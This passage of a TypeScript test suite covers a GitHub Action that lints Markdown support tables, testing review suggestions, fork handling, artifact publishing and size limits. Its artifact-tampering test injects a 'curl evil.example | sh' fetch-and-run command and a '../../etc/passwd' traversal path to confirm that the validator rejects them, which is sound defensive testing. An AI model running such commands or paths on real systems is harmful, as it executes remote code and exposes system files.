    expect(checkRuns(api.requests)[0]?.body).toMatchObject({ head_sha: repo.headSha });
  });

  it('compares a merge queue group with its base commit: only what the queued pull requests change gates', async () => {
    const head = ROWS.map((r) => (r.startsWith('CpuGate') ? 'CpuGate | Graduated | SUPPORTED' : r));
    const repo = makeRepo({ [DOC]: gates(ROWS, NOTES), 'docs/untouched.md': gates(['ZedGate | Omega | SUPPORTED'], []) }, { [DOC]: gates(head, NOTES) }, { merge: false });
    api = await startApi({});
    const payload = { merge_group: { head_sha: repo.headSha, head_ref: 'refs/heads/gh-readonly-queue/main/pr-1', base_sha: repo.baseSha, base_ref: 'refs/heads/main' } };
    const result = checked(await runAction({ repo, api, event: 'merge_group', payload, sha: repo.headSha }));
    expect(result.code).toBe(1);
    // The untouched page's old finding does not fail the queue.
    expect(result.outputs).toMatchObject({ errors: '1', existing: '1', 'files-checked': '1' });
    expect(checkRuns(api.requests)[0]?.body).toMatchObject({ head_sha: repo.headSha });
  });
});

// ---------------------------------------------------------------------------
// Issue 10: the pull request experience.

const SORTED = [
  'AlphaGate | Alpha | SUPPORTED', 'BetaGate | Beta | UNSUPPORTED', 'CpuGate | GA | SUPPORTED', 'DiskGate | Beta | PENDING', 'EchoGate | Beta | SUPPORTED', 'FooGate | GA | SUPPORTED',
  'GpuGate | GA | SUPPORTED', 'HostGate | GA | SUPPORTED', 'IoGate | GA | SUPPORTED', 'JitGate | GA | SUPPORTED', 'KvmGate | GA | SUPPORTED', 'LogGate | GA | SUPPORTED',
];
/**
 * A PR that mistypes a cell on a line it changes (a fix inside the diff) and
 * appends a row out of order (a sort that moves rows from the top of the
 * table, far outside the diff).
 */
const TYPO_AND_UNSORTED = { [DOC]: gates([...SORTED.map((r) => (r.startsWith('KvmGate') ? 'KvmGate | Ga | SUPPORTED' : r)), 'AaaGate | GA | SUPPORTED'], NOTES) };
const KVM_LINE = rowLine(10);
const BASE_DOC = { [DOC]: gates(SORTED, NOTES) };

const reviews = (requests: FakeApi['requests']) => requests.filter((r) => r.method === 'POST' && r.path.endsWith('/reviews'));
const writes = (requests: FakeApi['requests']) => requests.filter((r) => r.method !== 'GET');

/** The patch in the summary's collapsed block. */
const summaryPatch = (summary: string): string | undefined => /\n(`{3,})diff\n([^]*?)\n\1\n/.exec(summary)?.[2];

const gitIn = (dir: string, ...args: string[]) =>
  execFileSync('git', args, { cwd: dir, encoding: 'utf8', env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null', GIT_CONFIG_SYSTEM: '/dev/null' } });

describe('suggested fixes', () => {
  it('suggests a fix inside the diff in one review and offers a fix outside it as a git-apply-able patch', async () => {
    const { repo, result, requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED);
    expect(result.code).toBe(1);
    const posted = reviews(requests);
    expect(posted).toHaveLength(1);
    const review = posted[0]!.body as { commit_id: string; event: string; body: string; comments: { path: string; line: number; side: string; start_line?: number; body: string }[] };
    expect(review).toMatchObject({ commit_id: repo.headSha, event: 'COMMENT' });
    expect(review.comments).toHaveLength(1);
    const [comment] = review.comments;
    expect(comment).toMatchObject({ path: DOC, line: KVM_LINE, side: 'RIGHT' });
    expect(comment).not.toHaveProperty('start_line');
    expect(comment!.body).toContain('\n```suggestion\nKvmGate | GA | SUPPORTED\n```\n');
    expect(comment!.body).toMatch(/<!-- support-table-lint suggestion [0-9a-f]{64} [0-9a-f]{16} -->/);

    // The sort moves rows the diff does not show: a patch, which git applies to the PR's head once the suggestion is committed.
    expect(result.summary).toContain('<details><summary>Fixes not offered as suggestions (outside the diff, or on a line a suggestion cannot rewrite as it is; it applies once the suggestions are committed) (1 finding) as a patch');
    const patch = summaryPatch(result.summary);
    expect(patch).toContain(`diff --git a/${DOC} b/${DOC}`);
    const work = repo.dir;
    gitIn(work, 'checkout', '-q', '--detach', repo.headSha);
    const lines = readFileSync(join(work, DOC), 'utf8').split('\n');
    lines.splice(comment!.line - 1, 1, 'KvmGate | GA | SUPPORTED'); // "Commit suggestion"
    writeFileSync(join(work, DOC), lines.join('\n'));
    writeFileSync(join(work, 'fix.patch'), `${patch}\n`);
    gitIn(work, 'apply', 'fix.patch');
    const fixed = readFileSync(join(work, DOC), 'utf8');
    expect(fixed.split('\n').slice(4, 17)).toEqual(['AaaGate | GA | SUPPORTED', ...SORTED]);
  });

  it.each([false, true])('places findings and suggestions at the head commit\'s lines when the base branch moved on above them (shallow clone: %s)', async (shallow) => {
    // After the branch was made, the base branch put six lines above the table: the merge
    // actions/checkout makes has the rows six lines lower than the pull request's head.
    const intro = ['Intro 1', '', 'Intro 2', '', 'Intro 3', ''].join('\n');
    const head = ROWS.map((r) => (r.startsWith('CpuGate') ? 'CpuGate | GA | Supported' : r));
    const { repo, result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { [DOC]: gates(head, NOTES) }, {}, {}, {
      shallow,
      baseMoves: { [DOC]: `${intro}\n${gates(ROWS, NOTES)}` },
    });
    expect(repo.checkedOut).not.toBe(repo.headSha);
    expect(result.code).toBe(1);
    const cpu = rowLine(2);
    const errors = annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file']);
    expect(errors.map((e) => [e.props['line'], e.props['col'], e.message])).toEqual([[String(cpu), '16', expect.stringContaining('"CpuGate"')]]);
    const run = checkRuns(requests).find((r) => r.method === 'POST')!.body as { head_sha: string; output: { annotations: { start_line: number }[] } };
    expect(run.head_sha).toBe(repo.headSha);
    expect(run.output.annotations.map((a) => a.start_line)).toEqual([cpu]);
    expect(result.summary).toContain(`blob/${repo.headSha}/${DOC}#L${cpu})`);
    const [review] = reviews(requests);
    const comment = (review!.body as { comments: { line: number; body: string }[] }).comments[0]!;
    expect(comment.line).toBe(cpu);
    expect(comment.body).toContain('\n```suggestion\nCpuGate | GA | SUPPORTED\n```\n');
  });

  it('suggests nothing in a file the files API lists without a patch (GitHub takes no comment there): its fix is in the patch, the other file\'s in the review', async () => {
    const OTHER = 'docs/other.md';
    const base = { ...BASE_DOC, [OTHER]: gates(SORTED, NOTES) };
    const typo = (rows: string[]) => gates(rows.map((r) => (r.startsWith('KvmGate') ? 'KvmGate | Ga | SUPPORTED' : r)), NOTES);
    const head = { [DOC]: typo(SORTED), [OTHER]: typo(SORTED) };
    const repo = makeRepo(base, head);
    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, base, head).map((f) => (f.filename === OTHER ? { ...f, patch: undefined } : f)) });
    const result = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo) }));
    expect(result.code).toBe(1);
    const [review] = reviews(api.requests);
    expect((review!.body as { comments: { path: string }[] }).comments.map((c) => c.path)).toEqual([DOC]);
    const patch = summaryPatch(result.summary);
    expect(patch?.match(/^diff --git .*$/gm)).toEqual([`diff --git a/${OTHER} b/${OTHER}`]);
  });

  it('posts nothing new on a re-run, deletes its own outdated comment and touches no one else\'s', async () => {
    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
    const stale = `old fix\n\n<!-- support-table-lint suggestion ${'ab'.repeat(32)} -->\n`;
    api = await startApi({
      pull: { headSha: repo.headSha },
      pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED),
      comments: [
        { id: 1, body: stale, path: DOC, line: 7, user: { login: 'github-actions[bot]', type: 'Bot' } },
        { id: 2, body: `I quote it: ${stale}`, path: DOC, line: 7, user: { login: 'octocat', type: 'User' } },
        { id: 3, body: 'Another bot said this.', path: DOC, line: 7, user: { login: 'github-actions[bot]', type: 'Bot' } },
      ],
    });
    const run = async () => checked(await runAction({ repo, api: api!, event: 'pull_request', payload: pullRequestPayload(repo) }));
    await run();
    expect(reviews(api.requests)).toHaveLength(1);
    const deletes = api.requests.filter((r) => r.method === 'DELETE');
    expect(deletes.map((r) => r.path)).toEqual([`/repos/${OWNER}/${REPO}/pulls/comments/1`]);
    expect(api.comments.map((c) => c.id).sort()).toEqual([2, 3, 5000]);

    const before = api.requests.length;
    const second = await run();
    const again = api.requests.slice(before);
    expect(reviews(again)).toEqual([]);
    expect(again.filter((r) => r.method === 'DELETE')).toEqual([]);
    expect(api.comments.map((c) => c.id).sort()).toEqual([2, 3, 5000]);
    // The summary says where the fix is: in the review, already there.
    expect(second.summary).toContain('A fix is suggested in the pull request\'s review: apply it with one click under "Files changed".');
  });

  it('posts a suggestion again when GitHub has marked its earlier one outdated (line: null), and deletes that one', async () => {
    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED) });
    const run = async () => checked(await runAction({ repo, api: api!, event: 'pull_request', payload: pullRequestPayload(repo) }));
    await run();
    expect(reviews(api.requests)).toHaveLength(1);
    const first = api.comments.map((c) => c.id);
    expect(first).toHaveLength(1);
    // A later push changed the lines it was on: GitHub keeps the comment with no line.
    for (const comment of api.comments) Object.assign(comment, { line: null });
    const before = api.requests.length;
    const second = await run();
    const again = api.requests.slice(before);
    expect(reviews(again)).toHaveLength(1);
    expect(again.filter((r) => r.method === 'DELETE').map((r) => r.path)).toEqual([`/repos/${OWNER}/${REPO}/pulls/comments/${first[0]}`]);
    expect(api.comments).toHaveLength(1);
    expect(api.comments[0]!.id).not.toBe(first[0]);
    expect(second.summary).not.toMatch(/1 already there/);
  });

  it('recognises its own earlier comments when a GitHub App\'s token runs it (GraphQL viewer), and not GITHUB_TOKEN\'s bot\'s', async () => {
    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
    const stale = `old fix\n\n<!-- support-table-lint suggestion ${'cd'.repeat(32)} -->\n`;
    api = await startApi({
      pull: { headSha: repo.headSha },
      pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED),
      viewer: { login: 'table-bot', typename: 'Bot' },
      comments: [
        { id: 1, body: stale, path: DOC, line: 7, user: { login: 'table-bot[bot]', type: 'Bot' } },
        { id: 2, body: stale, path: DOC, line: 7, user: { login: 'github-actions[bot]', type: 'Bot' } },
      ],
    });
    const run = async () => checked(await runAction({ repo, api: api!, event: 'pull_request', payload: pullRequestPayload(repo) }));
    await run();
    expect(api.requests.filter((r) => r.path === '/graphql')).toHaveLength(1);
    expect(reviews(api.requests)).toHaveLength(1);
    expect(api.requests.filter((r) => r.method === 'DELETE').map((r) => r.path)).toEqual([`/repos/${OWNER}/${REPO}/pulls/comments/1`]);
    expect(api.comments.map((c) => [c.id, c.user?.login])).toEqual([[2, 'github-actions[bot]'], [5000, 'table-bot[bot]']]);

    const before = api.requests.length;
    await run();
    expect(reviews(api.requests.slice(before))).toEqual([]);
    expect(api.comments.map((c) => c.id)).toEqual([2, 5000]);
  });

  it('on a fork: no review and no check run (403), one notice each, the step failed only by the findings, every fix in the patch', async () => {
    const { result, requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED, { checkRunStatus: 403, reviewStatus: 403 }, { 'check-run': 'true' }, { fork: true });
    expect(result.code).toBe(1);
    expect(commands(result.stdout, 'error').filter((e) => !e.props['file']).map((e) => e.message)).toEqual([
      'support-table-lint found 1 new error in support tables (fail-on: error); see the annotations or the job summary.',
    ]);
    // The read-only token is known: no review is tried; the check run was asked for (check-run: true) and refused.
    expect(reviews(requests)).toEqual([]);
    expect(requests.filter((r) => r.path.endsWith('/check-runs'))).toHaveLength(1);
    const notices = commands(result.stdout, 'notice').filter((n) => n.props['title'] === 'support-table-lint').map((n) => n.message);
    expect(notices).toEqual([
      expect.stringMatching(/^No review with suggested fixes \(1\): pull requests from forks get a read-only token\./),
      expect.stringMatching(/^No support-table-lint check run: the token may not create check runs .*The findings are in these annotations and the job summary\.$/),
    ]);
    expect(result.summary).toContain('<details><summary>Fixes for new findings (no review was posted) (2 findings) as a patch');
    expect(summaryPatch(result.summary)).toContain('+KvmGate | GA | SUPPORTED');
  });

  it('turns a refused review (a read-only token on a PR from the same repository) into one notice naming the permission', async () => {
    const { result, requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED, { reviewStatus: 403 });
    expect(result.code).toBe(1);
    expect(reviews(requests)).toHaveLength(1);
    const notices = commands(result.stdout, 'notice').filter((n) => n.message.includes('review'));
    expect(notices.map((n) => n.message)).toEqual([
      'No review with suggested fixes (1): the review could not be posted (HTTP 403: Resource not accessible by integration; the token needs `pull-requests: write` (add it under `permissions:` in the workflow; pull requests from forks get a read-only token)).',
    ]);
    expect(summaryPatch(result.summary)).toContain('+KvmGate | GA | SUPPORTED');
  });

  it('makes no review with suggestions: false', async () => {
    const { result, requests } = await pr(BASE_DOC, TYPO_AND_UNSORTED, {}, { suggestions: 'false' });
    expect(result.code).toBe(1);
    expect(requests.filter((r) => r.path.includes('/reviews') || r.path.includes('/comments'))).toEqual([]);
    expect(result.summary).toContain('<details><summary>Fixes for new findings (2 findings) as a patch');
  });
});

describe('full results for forks: mode analyse, then publish', () => {
  it('publishes the suggestions GitHub\'s diff still has, says how many it left out, and offers every fix instead of the review', async () => {
    const OTHER = 'docs/other.md';
    const base = { ...BASE_DOC, [OTHER]: gates(SORTED, NOTES) };
    const typo = gates(SORTED.map((r) => (r.startsWith('KvmGate') ? 'KvmGate | Ga | SUPPORTED' : r)), NOTES);
    const head = { [DOC]: typo, [OTHER]: typo };
    const repo = makeRepo(base, head);
    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, base, head).map((f) => (f.filename === OTHER ? { ...f, patch: undefined } : f)) });
    checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo, { fork: true }), inputs: { mode: 'analyse' } }));
    const artifact = JSON.parse(readFileSync(join(repo.dir, 'support-table-lint-result.json'), 'utf8')) as { suggestions: { path: string }[] };
    expect(artifact.suggestions.map((s) => s.path).sort()).toEqual([DOC, OTHER]);
    const publishDir = tempFolder('publish');
    writeFileSync(join(publishDir, 'support-table-lint-result.json'), JSON.stringify(artifact));
    const before = api.requests.length;
    const published = checked(await runAction({ repo: { ...repo, dir: publishDir }, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' }, sha: repo.baseSha }));
    expect(reviews(api.requests.slice(before)).map((r) => (r.body as { comments: { path: string }[] }).comments.map((c) => c.path))).toEqual([[DOC]]);
    expect(commands(published.stdout, 'notice').map((n) => n.message)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^1 of the artifact's 2 suggested fixes were not posted: .*The patch in the job summary holds every fix\.$/)]),
    );
    expect(published.summary).toContain("A fix is suggested in the pull request's review");
    expect(published.summary).toContain('<details><summary>Every fix for new findings, those suggested in the review too (apply it instead of committing the suggestions, not after them)');
    expect(published.summary).not.toContain('no review was posted');
  });

  it('analyses without writing through the API, then publishes the artifact; a tampered artifact is rejected with a clear error', async () => {
    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED) });
    // The fork's run: a read-only token; mode analyse writes the artifact and makes no writing call.
    const analysed = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo, { fork: true }), inputs: { mode: 'analyse' } }));
    expect(analysed.code).toBe(1);
    // With the history in the clone (fetch-depth: 0, as the README's workflow has it), no API call at all.
    expect(api.requests.map((r) => `${r.method} ${r.path}`)).toEqual([]);
    // Its summary's patch says the publishing run posts the fixes, not that no review was posted.
    expect(analysed.summary).toContain('<details><summary>Fixes for new findings (the publishing workflow posts those inside the diff as suggestions)');
    expect(analysed.summary).not.toContain('no review was posted');
    const artifact = readFileSync(join(repo.dir, 'support-table-lint-result.json'), 'utf8');
    expect(JSON.parse(artifact)).toMatchObject({ kind: 'support-table-lint-result', headSha: repo.headSha, pullRequest: { number: 7 }, suggestions: [{ path: DOC, line: KVM_LINE }] });

    // The workflow_run run: a fresh workspace holding only the downloaded artifact; nothing of the PR is checked out.
    const publishDir = tempFolder('publish');
    writeFileSync(join(publishDir, 'support-table-lint-result.json'), artifact);
    const before = api.requests.length;
    const published = checked(
      await runAction({ repo: { ...repo, dir: publishDir }, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' }, sha: repo.baseSha }),
    );
    expect(published.code).toBe(0); // the analysing run is the one that fails
    const sent = api.requests.slice(before);
    const run = sent.find((r) => r.method === 'POST' && r.path.endsWith('/check-runs'));
    expect(run?.body).toMatchObject({ head_sha: repo.headSha, conclusion: 'failure', output: { annotations: [{ path: DOC, start_line: KVM_LINE }, { path: DOC }] } });
    expect(reviews(sent)).toHaveLength(1);
    expect(reviews(sent)[0]?.body).toMatchObject({ commit_id: repo.headSha, comments: [{ path: DOC, line: KVM_LINE }] });
    expect(published.summary).toContain('**1 new error and 1 new warning**');
    expect(commands(published.stdout, 'error')).toEqual([]); // no annotations on the publishing run
    expect(published.outputs).toMatchObject({ errors: '1', warnings: '1' });

    // Tampered: a path out of the repository, a commit that was not analysed, a field nobody knows.
    const tamper = async (change: (data: Record<string, unknown>) => void) => {
      const data = JSON.parse(artifact) as Record<string, unknown>;
      change(data);
      writeFileSync(join(publishDir, 'support-table-lint-result.json'), JSON.stringify(data));
      const at = api!.requests.length;
      const outcome = checked(await runAction({ repo: { ...repo, dir: publishDir }, api: api!, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' } }));
      expect(outcome.code).toBe(1);
      expect(writes(api!.requests.slice(at))).toEqual([]);
      return commands(outcome.stdout, 'error').map((e) => e.message);
    };
    expect(await tamper((d) => ((d['gating'] as { file: string }[])[0]!.file = '../../etc/passwd'))).toEqual([
      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /gating/0/file: must be a path inside the repository (relative, without `..`)',
    ]);
    expect(await tamper((d) => (d['headSha'] = 'f'.repeat(40)))).toEqual([
      `support-table-lint: The artifact support-table-lint-result.json is for commit ffffffffffff, but the workflow run it should come from analysed ${repo.headSha.slice(0, 12)}; download the artifact of \`github.event.workflow_run.id\`.`,
    ]);
    expect(await tamper((d) => (d['run'] = 'curl evil.example | sh'))).toEqual([
      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /: unknown field "run"',
    ]);
    expect(await tamper((d) => ((d['notices'] as string[]).push('x'.repeat(70 * 1024))))).toEqual([
      'support-table-lint: The artifact support-table-lint-result.json (input `artifact`) is not a support-table-lint result: /notices/0: must NOT have more than 65536 characters',
    ]);
  });

  it("the verdict is the stricter of both workflows' fail-on, and never a pass for an analysing run GitHub says failed", async () => {
    // Only a warning: a row out of order.
    const head = { [DOC]: gates([...SORTED, 'AaaGate | GA | SUPPORTED'], NOTES) };
    const repo = makeRepo(BASE_DOC, head);
    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, BASE_DOC, head) });
    const analysed = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo, { fork: true }), inputs: { mode: 'analyse', 'fail-on': 'warning' } }));
    expect(analysed.code).toBe(1);
    const artifact = readFileSync(join(repo.dir, 'support-table-lint-result.json'), 'utf8');
    const publishDir = tempFolder('publish');
    const publishWith = async (text: string, conclusion: string) => {
      writeFileSync(join(publishDir, 'support-table-lint-result.json'), text);
      const at = api!.requests.length;
      const published = checked(await runAction({ repo: { ...repo, dir: publishDir }, api: api!, event: 'workflow_run', payload: workflowRunPayload(repo, { conclusion }), inputs: { mode: 'publish' }, sha: repo.baseSha }));
      const run = api!.requests.slice(at).find((r) => r.method === 'POST' && r.path.endsWith('/check-runs'))!.body as { conclusion: string; output: { title: string } };
      return { published, run };
    };
    // This workflow says fail-on: error (the default), the analysing one warning: the check run fails, and says why.
    const honest = await publishWith(artifact, 'failure');
    expect(honest.run.conclusion).toBe('failure');
    expect(honest.published.summary).toContain("The analysing run judged with fail-on: warning, stricter than this workflow's fail-on: error; the check run follows it.");
    // An artifact that moved its finding to the pre-existing ones, and says fail-on: never: GitHub's conclusion still fails the check.
    const forged = JSON.parse(artifact) as { gating: unknown[]; existing: unknown[]; failOn: string };
    forged.existing = forged.gating;
    forged.gating = [];
    forged.failOn = 'never';
    const lie = await publishWith(JSON.stringify(forged), 'failure');
    expect(lie.run.conclusion).toBe('failure');
    expect(lie.published.summary).toContain('the analysing workflow run failed');
    // The same artifact from a run that passed: nothing to fail on.
    expect((await publishWith(JSON.stringify(forged), 'success')).run.conclusion).toBe('success');
  });

  it('publishes the artifact of a change that moved a row to another table (the diff\'s moved rows are part of the result)', async () => {
    const table = (...rows: string[]) => ['FEATURE GATE | GRADUATION | STATUS', '-- | -- | --', ...rows].join('\n');
    const page = (linux: string[], windows: string[]) => ({ [DOC]: `## Linux\n\n${table(...linux)}\n\n## Windows\n\n${table(...windows)}\n` });
    const base = page(['AGate | GA | SUPPORTED', 'BGate | GA | SUPPORTED'], ['CGate | GA | SUPPORTED']);
    const head = page(['AGate | GA | SUPPORTED'], ['BGate | GA | SUPPORTED', 'CGate | GA | SUPPORTED']);
    const repo = makeRepo(base, head);
    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, base, head) });
    checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo, { fork: true }), inputs: { mode: 'analyse' } }));
    const artifact = readFileSync(join(repo.dir, 'support-table-lint-result.json'), 'utf8');
    expect(artifact).toContain('"moved":[{"key":"BGate"');
    const publishDir = tempFolder('publish');
    writeFileSync(join(publishDir, 'support-table-lint-result.json'), artifact);
    const published = checked(await runAction({ repo: { ...repo, dir: publishDir }, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' }, sha: repo.baseSha }));
    expect(commands(published.stdout, 'error')).toEqual([]);
    expect(published.code).toBe(0);
    expect(published.summary).toContain('BGate');
  });

  it('publishes no review to another pull request that shares the analysed commit, and no duplicate suggestion', async () => {
    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
    // Pull request #7, as GitHub answers for it, comes from another branch than the analysed run's.
    api = await startApi({ pull: { headSha: repo.headSha, headRef: 'victim-branch' }, pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED) });
    checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo, { fork: true }), inputs: { mode: 'analyse' } }));
    const data = JSON.parse(readFileSync(join(repo.dir, 'support-table-lint-result.json'), 'utf8')) as { suggestions: unknown[] };
    data.suggestions.push(data.suggestions[0]);
    const publishDir = tempFolder('publish');
    writeFileSync(join(publishDir, 'support-table-lint-result.json'), JSON.stringify(data));
    const before = api.requests.length;
    const published = checked(await runAction({ repo: { ...repo, dir: publishDir }, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' }, sha: repo.baseSha }));
    expect(reviews(api.requests.slice(before))).toEqual([]);
    expect(published.summary).toContain('No review with suggested fixes: pull request &#35;7 comes from acme/docs:victim-branch, not from acme/docs:pr, where the analysed commit came from.');

    // From the right branch, the repeated suggestion is posted once.
    await api.close();
    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED) });
    checked(await runAction({ repo: { ...repo, dir: publishDir }, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' }, sha: repo.baseSha }));
    expect(reviews(api.requests).map((r) => (r.body as { comments: unknown[] }).comments.length)).toEqual([1]);

    // A suggestion whose comment, once escaped, is past GitHub's 65,536 characters is left out, not sent to a 422.
    const oversized = structuredClone(data) as { suggestions: { findings: { message: string }[] }[] };
    oversized.suggestions = [oversized.suggestions[0]!];
    oversized.suggestions[0]!.findings[0]!.message = '@'.repeat(60_000);
    writeFileSync(join(publishDir, 'support-table-lint-result.json'), JSON.stringify(oversized));
    await api.close();
    api = await startApi({ pull: { headSha: repo.headSha }, pullFiles: filesOf(repo, BASE_DOC, TYPO_AND_UNSORTED) });
    checked(await runAction({ repo: { ...repo, dir: publishDir }, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' }, sha: repo.baseSha }));
    expect(reviews(api.requests)).toEqual([]);
  });

  it('says what to do when publish runs on the wrong event or without the artifact', async () => {
    const repo = makeRepo(BASE_DOC, TYPO_AND_UNSORTED);
    api = await startApi({});
    const wrongEvent = checked(await runAction({ repo, api, event: 'pull_request', payload: pullRequestPayload(repo), inputs: { mode: 'publish' } }));
    expect(commands(wrongEvent.stdout, 'error').map((e) => e.message)).toEqual([
      'support-table-lint: mode: publish runs in a workflow triggered by `workflow_run` (this run was triggered by `pull_request`); see "Full results for pull requests from forks" in the README.',
    ]);
    const missing = checked(await runAction({ repo, api, event: 'workflow_run', payload: workflowRunPayload(repo), inputs: { mode: 'publish' } }));
    expect(missing.code).toBe(1);
    expect(commands(missing.stdout, 'error')[0]?.message).toMatch(/^support-table-lint: The artifact support-table-lint-result\.json \(input `artifact`\) does not exist\. Download/);
    expect(writes(api.requests)).toEqual([]);
  });
});

describe("GitHub's limits", () => {
  it('300 findings with 5 KB cells: every limit reached, no request GitHub would reject, nothing lost', async () => {
    const rows = Array.from({ length: 300 }, (_, i) => `Gate${String(i).padStart(3, '0')} | ${'x'.repeat(5 * 1024)} | SUPPORTED`);
    const { repo, result, requests } = await pr(BASE_DOC, { 'docs/big.md': gates(rows, []) }, {}, { 'report-file': 'out/report.json' });
    expect(result.code).toBe(1);
    expect(result.outputs).toMatchObject({ errors: '300', 'report-file': 'out/report.json' });
    // The JSON report holds all 300.
    const report = JSON.parse(readFileSync(join(repo.dir, 'out/report.json'), 'utf8')) as { violations: { message: string }[] };
    expect(report.violations).toHaveLength(300);
    expect(report.violations.every((v) => v.message.includes('x'.repeat(5 * 1024)))).toBe(true);
    // Check run: 50 annotations per request, output.summary cut to 65,535 characters with a count.
    const runs = requests.filter((r) => r.path.includes('/check-runs'));
    const outputs = runs.map((r) => (r.body as { output: { summary: string; annotations: unknown[] } }).output);
    expect(outputs.map((o) => o.annotations.length)).toEqual([50, 50, 50, 50, 50, 50]);
    for (const o of outputs) expect(o.summary.length).toBeLessThanOrEqual(65_535);
    expect(outputs.at(-1)!.summary).toMatch(/_\d+ of 300 rows left out to stay under GitHub's size limit; the report file `out\/report\.json` holds every finding\._/);
    // Job summary: under 1 MiB, with a count and where the rest are.
    expect(Buffer.byteLength(result.summary)).toBeLessThanOrEqual(1024 * 1024);
    const shown = (result.summary.match(/^\| error \|/gm) ?? []).length;
    expect(shown).toBeLessThan(300);
    expect(result.summary).toContain(`_${300 - shown} of 300 rows left out to stay under GitHub's size limit; the report file \`out/report.json\` holds every finding._`);
    // Annotations: the check run's 300, none repeated as a workflow command.
    expect(commands(result.stdout, 'error').filter((e) => e.props['file'])).toEqual([]);
    expect(annotationsOf(result.stdout, requests, 'error').filter((e) => e.props['file'])).toHaveLength(300);
  });

  it('with summary: false, the check run names no job summary as the place for the rows it leaves out', async () => {
    const rows = Array.from({ length: 300 }, (_, i) => `Gate${String(i).padStart(3, '0')} | ${'x'.repeat(5 * 1024)} | SUPPORTED`);
    const { result, requests } = await pr(BASE_DOC, { 'docs/big.md': gates(rows, []) }, {}, { summary: 'false' });
    expect(result.summary).toBe('');
    const last = (requests.filter((r) => r.path.includes('/check-runs')).at(-1)!.body as { output: { summary: string } }).output.summary;
    expect(last).toMatch(/rows left out to stay under GitHub's size limit; every new finding is an annotation of this check run; the workflow run's log has the rest\._/);
    expect(last).not.toContain('job summary');
  });

  it('without a check run (a fork), 9 errors as workflow commands and the verdict the 10th, then one notice saying how many more and where', async () => {
    const many = Array.from({ length: 60 }, (_, i) => `Gate${String(i).padStart(3, '0')} | Graduated | SUPPORTED`);
    const { result, requests } = await pr({ [DOC]: gates(ROWS, NOTES) }, { 'docs/many.md': gates(many, []) }, {}, {}, { fork: true });
    expect(result.code).toBe(1);
    expect(checkRuns(requests)).toEqual([]);
    // GitHub shows 10 errors per step: the verdict, written last, must be one of them.
    const errors = commands(result.stdout, 'error');
    expect(errors.filter((e) => e.props['file'])).toHaveLength(9);
    expect(errors).toHaveLength(10);
    expect(errors.at(-1)?.message).toMatch(/^support-table-lint found 60 new errors/);
    expect(commands(result.stdout, 'notice').at(-1)?.message).toBe(
      '51 more findings are not shown as annotations (GitHub shows at most 10 errors and 10 warnings per step); see the job summary.',
    );
  });

  it('cuts a 70 KB cell to GitHub\'s 64 KB annotation message, visibly', async () => {
    const { result, requests } = await pr(BASE_DOC, { 'docs/huge.md': gates([`HugeGate | ${'é'.repeat(35 * 1024)} | SUPPORTED`], []) });
    expect(result.code).toBe(1);
    const annotation = (requests.find((r) => r.path.endsWith('/check-runs'))!.body as { output: { annotations: { message: string }[] } }).output.annotations[0]!;
    expect(Buffer.byteLength(annotation.message)).toBeLessThanOrEqual(64 * 1024);
    expect(annotation.message).toMatch(/… \d+ more characters$/);
    const logged = annotationsOf(result.stdout, requests, 'error').find((e) => e.props['file'] === 'docs/huge.md')!;
    expect(Buffer.byteLength(logged.message)).toBeLessThanOrEqual(64 * 1024);
    expect(logged.message).toMatch(/… \d+ more characters$/);
  });

  it('keeps output.summary under 65,535 characters when the PR changes 400 schemas with long paths', async () => {
    const dir = `schemas/${'nested-folder-with-a-long-name/'.repeat(5)}`;
    const names = Array.from({ length: 400 }, (_, i) => `${dir}support-table-schema-number-${String(i).padStart(3, '0')}.schema.json`);
    const config = `tables:\n${names.map((n, i) => `  - files: ["docs/t${i}.md"]\n    schema: ${n}\n`).join('')}`;
    const schema = (title: string) => JSON.stringify({ type: 'object', title });
    const base: Files = { '.github/support-table-lint.yml': config, ...Object.fromEntries(names.map((n) => [n, schema('base')])), [DOC]: gates(ROWS, NOTES) };
